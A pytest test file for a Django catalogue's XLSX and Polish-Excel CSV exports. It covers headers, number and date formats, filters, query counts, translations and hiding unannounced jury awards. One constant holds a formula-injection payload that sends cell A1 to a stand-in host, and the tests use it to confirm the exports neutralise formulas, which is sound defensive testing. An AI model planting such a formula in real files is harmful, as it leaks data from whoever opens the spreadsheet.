"""Exports officials open in a spreadsheet: XLSX and the semicolon CSV for Polish Excel."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from tests.factories import (
    CategoryFactory,
    EntryFactory,
    OrganisationFactory,
    PracticeFactory,
    TopicFactory,
)

pytestmark = pytest.mark.django_db

XLSX = "/praktyki/eksport.xlsx"
EXCEL_CSV = "/praktyki/eksport-excel.csv"
HEADERS_PL = [
    "Tytuł",
    "Adres strony",
    "Typ praktyki",
    "Obszary tematyczne",
    "Lider",
    "Partnerzy",
    "Kraje",
    "Regiony",
    "Początek realizacji",
    "Koniec realizacji",
    "Wartość całkowita",
    "Dofinansowanie",
    "Waluta",
    "Źródła finansowania",
    "Nagrody",
    "Streszczenie",
    "Źródło opisu",
    "Data publikacji",
    "Identyfikator",
]
HYPERLINK = '=HYPERLINK("http://zle.example/?d="&A1;"Kliknij")'


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def sheet_rows_from(content: bytes) -> list[dict]:
    """The XLSX's data rows as {header: cell}, read back by openpyxl."""
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def sheet_rows(response) -> list[dict]:
    return sheet_rows_from(body(response))


def csv_rows_from(content: bytes) -> list[list[str]]:
    """The semicolon CSV read back as Python's csv module reads it."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def csv_rows(response) -> list[list[str]]:
    return csv_rows_from(body(response))


@pytest.fixture
def awarded_practice():
    """A practice with every kind of column filled: partners, money, dates, awards."""
    from practices.models import FundingSource, Partnership

    practice = PracticeFactory(
        title="Budżet obywatelski",
        slug="budzet-obywatelski",
        summary="Mieszkańcy decydują.",
        source_name="Zgłoszenie do konkursu",
        lead_organisation=OrganisationFactory(name="Gmina Lider", country="PL"),
        topics=[TopicFactory(name="Partycypacja"), TopicFactory(name="Edukacja")],
        started_on=date(2017, 6, 15),
        started_precision="day",
        ended_on=date(2021, 6, 30),
        ended_precision="month",
        total_value=Decimal("4061351.04"),
        co_financing=Decimal("1500000.50"),
        currency="PLN",
    )
    Partnership.objects.create(
        practice=practice,
        organisation=OrganisationFactory(name="Miasto Partner", country="UA"),
        role="co_organiser",
    )
    practice.funding_sources.set([FundingSource.objects.create(name="Fundusz", slug="fundusz")])
    EntryFactory(
        practice=practice,
        category=CategoryFactory(
            name="Edukacja", edition__name="Konkurs 2021", edition__phase="archived"
        ),
        status="laureate",
        laureate_place=1,
        is_winner=True,
        distinction="Empatia",
    )
    PracticeFactory(slug="inna")  # published later: the first row (newest first)
    return practice


def test_xlsx_export_has_polish_headers_and_typed_cells(client, awarded_practice, settings):
    settings.SITE_URL = "https://katalog.example.org"

    response = client.get(XLSX)
    rows = sheet_rows(response)

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert 'filename="dobre-praktyki.xlsx"' in response["Content-Disposition"]
    assert list(rows[0]) == HEADERS_PL
    assert [r["Identyfikator"].value for r in rows] == ["inna", "budzet-obywatelski"]
    row = rows[1]
    assert row["Tytuł"].value == "Budżet obywatelski"
    assert row["Adres strony"].value == "https://katalog.example.org/praktyki/budzet-obywatelski/"
    assert row["Typ praktyki"].value == "IT"
    assert row["Obszary tematyczne"].value in ("Partycypacja; Edukacja", "Edukacja; Partycypacja")
    assert row["Lider"].value == "Gmina Lider"
    assert row["Partnerzy"].value == "Miasto Partner (współrealizator)"
    assert row["Kraje"].value == "Polska; Ukraina"
    # Dates are date cells, shown to the precision the source gave.
    assert row["Początek realizacji"].is_date
    assert row["Początek realizacji"].value == datetime(2017, 6, 15)
    assert row["Początek realizacji"].number_format == "yyyy-mm-dd"
    assert row["Koniec realizacji"].is_date
    assert row["Koniec realizacji"].value == datetime(2021, 6, 30)
    assert row["Koniec realizacji"].number_format == "yyyy-mm"
    assert row["Data publikacji"].is_date
    # Amounts are numbers, their currency beside them.
    assert row["Wartość całkowita"].data_type == "n"
    assert row["Wartość całkowita"].value == pytest.approx(4061351.04)
    assert row["Dofinansowanie"].value == pytest.approx(1500000.50)
    assert row["Waluta"].value == "PLN"
    assert row["Źródła finansowania"].value == "Fundusz"
    assert row["Nagrody"].value == (
        "Konkurs 2021 – kategoria „Edukacja”: laureat, 1. miejsce, zwycięzca, wyróżnienie „Empatia”"
    )
    assert row["Streszczenie"].value == "Mieszkańcy decydują."
    assert row["Źródło opisu"].value == "Zgłoszenie do konkursu"
    assert row["Identyfikator"].value == "budzet-obywatelski"
    # The other practice leaves its empty columns empty.
    assert rows[0]["Wartość całkowita"].value is None
    assert rows[0]["Nagrody"].value is None


def test_xlsx_export_speaks_english_under_en(client, awarded_practice):
    with translation.override("en"):
        url = reverse("practices:practice-export-xlsx")
    row = sheet_rows(client.get(url))[1]

    assert list(row)[:6] == [
        *("Title", "Page address", "Type of practice"),
        *("Topics", "Lead organisation", "Partners"),
    ]
    assert row["Partners"].value == "Miasto Partner (co-organiser)"
    assert row["Countries"].value == "Poland; Ukraine"
    assert row["Awards"].value == (
        "Konkurs 2021 – category “Edukacja”: laureate, place 1, winner, special mention “Empatia”"
    )
    assert row["Page address"].value.endswith("/en/practices/budzet-obywatelski/")


def test_xlsx_export_holds_exactly_the_filtered_practices(client):
    for n in range(3):
        PracticeFactory(title=f"Ukraińska {n}", lead_organisation=OrganisationFactory(country="UA"))
    PracticeFactory(title="Polska", lead_organisation=OrganisationFactory(country="PL"))

    rows = sheet_rows(client.get(XLSX, {"country": "UA"}))

    assert sorted(row["Tytuł"].value for row in rows) == [
        "Ukraińska 0",
        "Ukraińska 1",
        "Ukraińska 2",
    ]


def test_xlsx_export_with_bad_filters_answers_like_the_list(client):
    PracticeFactory(title="Jedyna")

    response = client.get(XLSX, {"year_from": "abc", "type": "nope", "country": "ZZZ"})

    assert response.status_code == 200
    assert [row["Tytuł"].value for row in sheet_rows(response)] == ["Jedyna"]


def test_xlsx_export_keeps_formula_looking_text_as_text(client):
    PracticeFactory(
        title=HYPERLINK,
        summary="+48 1",
        source_name="#N/A",
        lead_organisation=OrganisationFactory(name="@Gmina"),
    )

    response = client.get(XLSX)
    content = body(response)
    row = sheet_rows_from(content)[0]

    assert (row["Tytuł"].value, row["Tytuł"].data_type) == (HYPERLINK, "s")
    assert (row["Streszczenie"].value, row["Streszczenie"].data_type) == ("+48 1", "s")
    assert (row["Lider"].value, row["Lider"].data_type) == ("@Gmina", "s")
    assert (row["Źródło opisu"].value, row["Źródło opisu"].data_type) == ("#N/A", "s")
    # No cell of the sheet is a formula.
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml


def test_xlsx_export_drops_control_characters_and_cuts_overlong_text(client):
    PracticeFactory(title="Tytuł\x0bz tabulacją pionową", summary="a" * 40_000)

    row = sheet_rows(client.get(XLSX))[0]

    assert row["Tytuł"].value == "Tytułz tabulacją pionową"
    assert len(row["Streszczenie"].value) == 32_767
    assert row["Streszczenie"].value.endswith("a…")


def test_xlsx_export_over_the_limit_says_so_and_offers_the_csv(client, monkeypatch):
    from catalogue import spreadsheets

    monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", 2)
    for n in range(3):
        PracticeFactory(title=f"P{n}", lead_organisation=OrganisationFactory(country="UA"))

    response = client.get(XLSX, {"country": "UA"})
    page = response.content.decode()

    assert response.status_code == 400
    assert "Za dużo praktyk na jeden arkusz" in page
    assert "najwyżej 2 wierszy" in page
    assert 'href="/praktyki/eksport-excel.csv?country=UA"' in page
    assert 'href="/praktyki/?country=UA"' in page
    # At the limit, the file is built.
    PracticeFactory(title="Polska", lead_organisation=OrganisationFactory(country="PL"))
    assert len(sheet_rows(client.get(XLSX, {"country": "PL"}))) == 1


@pytest.mark.parametrize("url", [XLSX, EXCEL_CSV])
def test_spreadsheet_export_query_count_is_fixed_per_chunk(
    client, django_assert_max_num_queries, monkeypatch, url
):
    """1 practice or 7 in chunks of 3: the same queries per chunk, none per practice."""
    from catalogue import exports
    from practices.models import Partnership

    monkeypatch.setattr(exports, "CHUNK", 3)

    def practice_with_relations(n):
        practice = PracticeFactory(slug=f"p{n}", topics=[TopicFactory()])
        Partnership.objects.create(
            practice=practice, organisation=OrganisationFactory(), role="partner"
        )
        EntryFactory(practice=practice, category__edition__phase="archived", status="finalist")

    practice_with_relations(0)
    # vocabulary (≤3), the count (XLSX), the practices, and per chunk 3 related queries
    with django_assert_max_num_queries(9):
        body(client.get(url))
    for n in range(1, 7):
        practice_with_relations(n)
    # 3 chunks: two more chunks of 3 queries each, and one more cursor fetch each
    with django_assert_max_num_queries(9 + 2 * 4):
        content = body(client.get(url))
    if url == XLSX:
        slugs = [row["Identyfikator"].value for row in sheet_rows_from(content)]
    else:
        slugs = [row[-1] for row in csv_rows_from(content)[1:]]
    assert sorted(slugs) == [f"p{n}" for n in range(7)]


def test_excel_csv_round_trips_with_semicolons_and_polish_headers(client, awarded_practice):
    awarded_practice.title = 'Plan; „nowy” i "stary"\ndruga linia'
    awarded_practice.save(update_fields=["title"])

    response = client.get(EXCEL_CSV)
    raw = body(response)
    rows = csv_rows_from(raw)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="dobre-praktyki-excel.csv"' in response["Content-Disposition"]
    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows[0] == HEADERS_PL
    row = dict(zip(rows[0], rows[2], strict=True))
    assert row["Tytuł"] == 'Plan; „nowy” i "stary"\ndruga linia'
    assert row["Partnerzy"] == "Miasto Partner (współrealizator)"
    assert row["Nagrody"] == (
        "Konkurs 2021 – kategoria „Edukacja”: laureat, 1. miejsce, zwycięzca, wyróżnienie „Empatia”"
    )
    # Decimal comma, no thousands separator: Polish Excel reads these as numbers.
    assert (row["Wartość całkowita"], row["Dofinansowanie"], row["Waluta"]) == (
        "4061351,04",
        "1500000,50",
        "PLN",
    )
    # Dates to the precision the source gave.
    assert (row["Początek realizacji"], row["Koniec realizacji"]) == ("2017-06-15", "2021-06")
    assert len(rows) == 3  # the header and two practices


def test_excel_csv_neutralises_formulas_like_every_csv(client):
    PracticeFactory(title=HYPERLINK, summary="-1 dzień")

    row = dict(zip(*csv_rows(client.get(EXCEL_CSV)), strict=True))

    assert (row["Tytuł"], row["Streszczenie"]) == ("'" + HYPERLINK, "'-1 dzień")


def test_excel_csv_is_filtered_and_speaks_english_under_en(client, awarded_practice):
    PracticeFactory(title="Ukraińska", lead_organisation=OrganisationFactory(country="UA"))

    with translation.override("en"):
        url = reverse("practices:practice-export-excel-csv")
    header, *rows = csv_rows(client.get(url, {"country": "UA"}))
    by_title = {row[0]: dict(zip(header, row, strict=True)) for row in rows}

    assert header[:3] == ["Title", "Page address", "Type of practice"]
    # The awarded practice has a Ukrainian partner: both match, the Polish-only one not.
    assert sorted(by_title) == ["Budżet obywatelski", "Ukraińska"]
    assert by_title["Budżet obywatelski"]["Awards"] == (
        "Konkurs 2021 – category “Edukacja”: laureate, place 1, winner, special mention “Empatia”"
    )
    assert by_title["Budżet obywatelski"]["Total value"] == "4061351,04"


def test_standard_csv_stays_machine_readable(client, awarded_practice):
    """The open-data CSV keeps its commas, field codes and decimal points."""
    text = body(client.get("/praktyki/eksport.csv")).decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == "budzet-obywatelski")

    assert (row["total_value"], row["type"], row["countries"]) == ("4061351.04", "it", "PL | UA")
    assert row["partners"].startswith("name=Miasto Partner, slug=")


def test_spreadsheet_exports_leave_out_undisclosed_jury_decisions(client):
    """A distinction the jury saved but nobody announced is in neither file."""
    EntryFactory(
        practice=PracticeFactory(title="Czeka na ogłoszenie"),
        category__edition__phase="jury_review",
        status="finalist",
        distinction="Empatia",
    )

    xlsx_row = sheet_rows(client.get(XLSX))[0]
    csv_text = body(client.get(EXCEL_CSV)).decode("utf-8-sig")

    assert xlsx_row["Tytuł"].value == "Czeka na ogłoszenie"
    assert xlsx_row["Nagrody"].value is None
    assert "Czeka na ogłoszenie" in csv_text
    assert "Empatia" not in csv_text


def test_xlsx_writer_removes_its_temporary_sheet_when_a_row_fails():
    from openpyxl.worksheet import _writer

    from catalogue.spreadsheets import headers, write_xlsx

    def rows():
        yield ["Pierwszy wiersz"]
        raise RuntimeError("połączenie z bazą przerwane")

    before = set(_writer.ALL_TEMP_FILES)
    with pytest.raises(RuntimeError), io.BytesIO() as out:
        write_xlsx(headers(), rows(), out)

    left = [path for path in _writer.ALL_TEMP_FILES if path not in before]
    assert left == []


def test_practice_list_links_both_spreadsheet_exports_with_its_filters(client):
    PracticeFactory(lead_organisation=OrganisationFactory(country="UA"))

    html = client.get("/praktyki/", {"country": "UA", "page": "1"}).content.decode()

    assert 'href="/praktyki/eksport.xlsx?country=UA"' in html
    assert 'href="/praktyki/eksport-excel.csv?country=UA"' in html


def test_open_data_page_documents_the_spreadsheet_exports(client):
    from catalogue.spreadsheets import COLUMNS

    html = client.get("/otwarte-dane/").content.decode()

    assert 'href="/praktyki/eksport.xlsx"' in html
    assert 'href="/praktyki/eksport-excel.csv"' in html
    assert "średnik jako separator, przecinek dziesiętny" in html
    assert all(f"<td>{column.header}</td>" in html for column in COLUMNS)
